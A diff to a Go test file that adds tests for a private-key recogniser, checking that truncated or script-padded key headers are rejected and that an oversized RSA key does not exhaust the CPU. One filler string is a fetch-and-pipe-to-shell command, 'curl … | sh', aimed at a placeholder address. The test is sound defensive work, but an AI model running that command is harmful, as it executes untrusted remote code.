@@ -4,7 +4,9 @@ import (
 	"context"
 	"crypto/ed25519"
 	"crypto/rand"
+	"encoding/asn1"
 	"encoding/pem"
+	"math/big"
 	"os"
 	"path/filepath"
 	"slices"
@@ -151,6 +153,51 @@ func TestPrivateKeysOfEveryToolAreRecognised(t *testing.T) {
 	}
 	if kind, _ := privateKey([]byte("\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x40")); kind != "Dropbear" {
 		t.Errorf("Dropbear key taken for %q", kind)
+	}
+}
+
+// A first line, or a few bytes, make no key of what follows.
+func TestWhatOnlyBeginsLikeAKeyIsTaken(t *testing.T) {
+	script := strings.Repeat("curl -s http://203.0.113.7/x | sh # again\n", 20)
+	rsa := "\x00\x00\x00\x07ssh-rsa\x00\x00\x00\x03\x01\x00\x01" + strings.Repeat("\x00\x00\x00\x80"+strings.Repeat("n", 128), 4)
+	putty := "PuTTY-User-Key-File-3: ssh-ed25519\r\nEncryption: none\r\nComment: me\r\nPublic-Lines: 2\r\nAAAAC3NzaC1lZDI1NTE5\r\nAAAA\r\nPrivate-Lines: 1\r\nAAAAIN==\r\nPrivate-MAC: 00ff\r\n"
+	for text, secret := range map[string]bool{
+		rsa: true, rsa[:300]: true, putty: true, strings.ReplaceAll(putty, "\r", ""): true,
+		"PuTTY-User-Key-File-3: ssh-rsa\n" + script: false, "\x00\x00\x00\x07ssh-rsa" + script: false,
+		"\x00\x00\x00\x0bssh-ed25519" + strings.Repeat("\x00\x00\x00\x40"+script[:64], 10): false,
+	} {
+		kind, _ := privateKey([]byte(text))
+		leave, _ := leaveKeys([]byte(text))
+		if (kind != "") != secret || leave != secret {
+			t.Errorf("%.40q…: kind %q, left out: %v", text, kind, leave)
+		}
+	}
+}
+
+// Numbers without end in the clothes of a key do not keep a collector busy.
+func TestAKeyLongerThanAnyIsNotCalculatedWith(t *testing.T) {
+	number := func(bits uint) *big.Int {
+		n := new(big.Int).Lsh(big.NewInt(3), bits-2)
+		return n.Add(n, big.NewInt(7))
+	}
+	const bits = 1 << 18
+	p, q := number(bits/2), number(bits/2+2)
+	one := big.NewInt(1)
+	phi := new(big.Int).Mul(new(big.Int).Sub(p, one), new(big.Int).Sub(q, one))
+	e := big.NewInt(65537)
+	d := new(big.Int).ModInverse(e, phi)
+	if d == nil {
+		d = number(bits)
+	}
+	der, err := asn1.Marshal(struct {
+		Version                  int
+		N, E, D, P, Q, DP, DQ, I *big.Int
+	}{0, new(big.Int).Mul(p, q), e, d, p, q, new(big.Int).Mod(d, new(big.Int).Sub(p, one)), new(big.Int).Mod(d, new(big.Int).Sub(q, one)), number(bits / 2)})
+	check(t, err)
+	before := testenv.CPUSeconds()
+	kind, public := privateKey(pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: der}))
+	if took := testenv.CPUSeconds() - before; kind == "" || !strings.Contains(public, "longer than any") || took > 1 {
+		t.Errorf("%q, %q, %.1f CPU s", kind, public, took)
 	}
 }
 
